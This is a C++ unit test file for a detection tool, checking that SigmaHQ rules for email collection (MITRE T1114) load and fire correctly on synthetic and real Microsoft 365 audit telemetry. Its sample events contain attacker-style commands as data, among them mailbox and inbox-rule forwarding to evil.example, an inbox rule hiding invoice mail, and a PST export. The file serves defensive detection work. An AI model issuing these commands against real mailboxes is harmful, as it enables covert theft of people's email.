// The shared SigmaHQ rules (../shared/data/rules/sigma/): every one loads; each T1114 rule
// fires on telemetry built from its own terms and on none of the others'; the M365
// forwarding rule fires on the real unified audit exports of forwarding rules.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <map>

#include "core/collector.h"
#include "core/diagnostics.h"
#include "core/json.h"
#include "expectations/sigma/sigma.h"

namespace attest::sigma {
namespace {

namespace fs = std::filesystem;
const std::string kRules = "../shared/data/rules/sigma";
const std::string kO365 = "../shared/data/o365";

#define NEED_SHARED_DATA() \
    if (!fs::exists(kRules)) GTEST_SKIP() << kRules << " is absent (shared data not present)"

std::shared_ptr<const RuleSet> load_one(const std::string& file) {
    auto set = load(kRules + "/" + file);
    EXPECT_TRUE(set.ok()) << (set.ok() ? "" : set.error().message);
    if (!set.ok()) return nullptr;
    return std::make_shared<const RuleSet>(std::move(*set));
}

std::vector<std::shared_ptr<const Event>> run(const std::shared_ptr<const RuleSet>& set,
                                              const std::vector<Event>& events) {
    RuleSetMatcher m(set);
    for (const auto& e : events) m.feed(e);
    m.finish();
    std::vector<std::shared_ptr<const Event>> out;
    for (const auto& h : m.hits()) out.insert(out.end(), h.events.begin(), h.events.end());
    return out;
}

TEST(SigmaSharedRules, EveryRuleLoads) {
    NEED_SHARED_DATA();
    std::size_t files = 0;
    for (const auto& entry : fs::directory_iterator(kRules)) {
        if (!is_sigma_path(entry.path().string())) continue;
        ++files;
        auto set = load(entry.path().string());
        ASSERT_TRUE(set.ok()) << set.error().message;
        ASSERT_EQ(set->rules.size(), 1u) << entry.path();
        const Rule& r = set->rules[0];
        EXPECT_FALSE(r.title.empty()) << entry.path();
        EXPECT_TRUE(r.query) << entry.path();
    }
    EXPECT_EQ(files, 36u);
    auto folder = load(kRules);  // the folder as one set
    ASSERT_TRUE(folder.ok()) << folder.error().message;
    EXPECT_EQ(folder->rules.size(), 36u);
}

// Telemetry for each T1114 rule, written from the rule's own selection terms, as attest's
// collectors normalize it (winlog.event_data, o365.audit) or as the cloud integrations' NDJSON.
const std::map<std::string, std::string>& t1114_telemetry() {
    static const std::map<std::string, std::string> m = {
        {"azure_identity_protection_inbox_forwarding_rule.yml",
         R"({"event":{"dataset":"azure.identity_protection"},"riskEventType":"suspiciousInboxForwarding"})"},
        {"gcp_gworkspace_out_of_domain_email_forwarding.yml",
         R"({"event":{"dataset":"google_workspace.login"},"protoPayload":{"serviceName":"login.googleapis.com",)"
         R"("metadata":{"event":{"eventName":"email_forwarding_out_of_domain"}}}})"},
        {"microsoft365_pst_export_alert.yml",
         R"({"event":{"dataset":"o365.audit"},"o365":{"audit":{"eventSource":"SecurityComplianceCenter",)"
         R"("eventName":"eDiscovery search started or exported","status":"success"}}})"},
        {"microsoft365_pst_export_alert_using_new_compliancesearchaction.yml",
         R"({"event":{"dataset":"o365.audit"},"o365":{"audit":{"eventSource":"SecurityComplianceCenter",)"
         R"("Payload":"New-ComplianceSearchAction -SearchName s -Export -Format FxStream -ExchangeArchiveFormat PerUserPst"}}})"},
        {"microsoft365_susp_email_forwarding_activity.yml",
         R"({"event":{"dataset":"o365.audit"},"o365":{"audit":{"Operation":"New-InboxRule",)"
         R"("Parameters":{"Name":"r","ForwardTo":"x@evil.example"}}}})"},
        {"microsoft365_susp_inbox_rule_creation_or_update_activity.yml",
         R"({"event":{"dataset":"o365.audit"},"o365":{"audit":{"Operation":"Set-InboxRule",)"
         R"("Parameters":{"Identity":"r","MoveToFolder":"RSS Feeds"}}}})"},
        {"posh_ps_email_forwarding_activity.yml",
         R"({"event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":)"
         R"({"ScriptBlockText":"Set-Mailbox -Identity u -ForwardingSmtpAddress x@evil.example"}}})"},
        {"posh_ps_inbox_rule_creation_or_update_activity.yml",
         R"({"event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":)"
         R"({"ScriptBlockText":"New-InboxRule -Name hide -SubjectOrBodyContainsWords invoice -MarkAsRead $true"}}})"},
        {"posh_ps_susp_mail_acces.yml",
         R"({"event":{"code":"4104"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_data":)"
         R"J({"ScriptBlockText":"$o = New-Object -comobject outlook.application; $ns = $o.GetNamespace('MAPI')"}}})J"},
        {"win_security_alert_ruler.yml",
         R"({"event":{"dataset":"windows.security","code":"4776"},"winlog":{"channel":"Security","event_id":4776,)"
         R"("event_data":{"Workstation":"RULER","TargetUserName":"u"}}})"},
        {"proc_creation_win_powershell_snapins_hafnium.yml",
         R"({"event":{"dataset":"windows.sysmon_operational","code":"1"},"winlog":{"event_id":1,"event_data":)"
         R"({"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",)"
         R"("CommandLine":"powershell Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox"}}})"},
    };
    return m;
}

TEST(SigmaSharedRules, EachT1114RuleFiresOnItsTelemetryOnly) {
    NEED_SHARED_DATA();
    std::vector<std::string> t1114;
    for (const auto& entry : fs::directory_iterator(kRules)) {
        if (!is_sigma_path(entry.path().string())) continue;
        auto set = load(entry.path().string());
        ASSERT_TRUE(set.ok());
        const auto& tags = set->rules[0].tags;
        if (std::any_of(tags.begin(), tags.end(),
                        [](const std::string& t) { return t.rfind("attack.t1114", 0) == 0; }))
            t1114.push_back(entry.path().filename().string());
    }
    std::sort(t1114.begin(), t1114.end());
    ASSERT_EQ(t1114.size(), t1114_telemetry().size())
        << "a T1114 rule without telemetry in this test";
    for (const auto& file : t1114) {
        auto set = load_one(file);
        ASSERT_TRUE(set);
        for (const auto& [other, json] : t1114_telemetry()) {
            std::size_t n = run(set, {parse_json_value(json)}).size();
            if (other == file)
                EXPECT_EQ(n, 1u) << file << " should fire on its own telemetry";
            else
                EXPECT_EQ(n, 0u) << file << " fired on the telemetry of " << other;
        }
    }
}

std::vector<Event> read_events(const std::string& path) {
    std::vector<Event> out;
    DiagnosticSink sink;
    auto c = CollectorRegistry::builtin().open(path, "", CollectorOptions{}, sink);
    EXPECT_TRUE(c.ok()) << path;
    if (!c.ok()) return out;
    Event e;
    while ((*c)->next(e)) out.push_back(e);
    return out;
}

// The M365 rule covering New-InboxRule / Set-Mailbox forwarding, on the real exports.
TEST(SigmaSharedRules, ForwardingRuleFiresOnRealO365Samples) {
    NEED_SHARED_DATA();
    auto set = load_one("microsoft365_susp_email_forwarding_activity.yml");
    ASSERT_TRUE(set);
    EXPECT_EQ(set->rules[0].sources, std::vector<std::string>{"o365"});
    auto json = read_events(kO365 + "/t1114.003_Forward_Rule_Multi_Users_Same_Forward_dest.json");
    ASSERT_EQ(json.size(), 5u);
    EXPECT_EQ(run(set, json).size(), 5u);
    auto csv = read_events(kO365 + "/t1114_Set-Mailbox-ForwardSMTPAddress.csv");
    ASSERT_FALSE(csv.empty());
    auto hits = run(set, csv);
    ASSERT_EQ(hits.size(), 1u);
    EXPECT_EQ(hits[0]->find("o365.audit.Operation")->as_string(), "Set-Mailbox");
    // An inbox rule that deletes mail forwards nothing.
    EXPECT_TRUE(
        run(set, read_events(kO365 + "/t1564.008_New inbox rule to delete email.csv")).empty());
    // ... and the inbox-rule hunting rule does see it.
    auto hunting = load_one("microsoft365_susp_inbox_rule_creation_or_update_activity.yml");
    EXPECT_FALSE(
        run(hunting, read_events(kO365 + "/t1564.008_New inbox rule to delete email.csv")).empty());
}

}  // namespace
}  // namespace attest::sigma
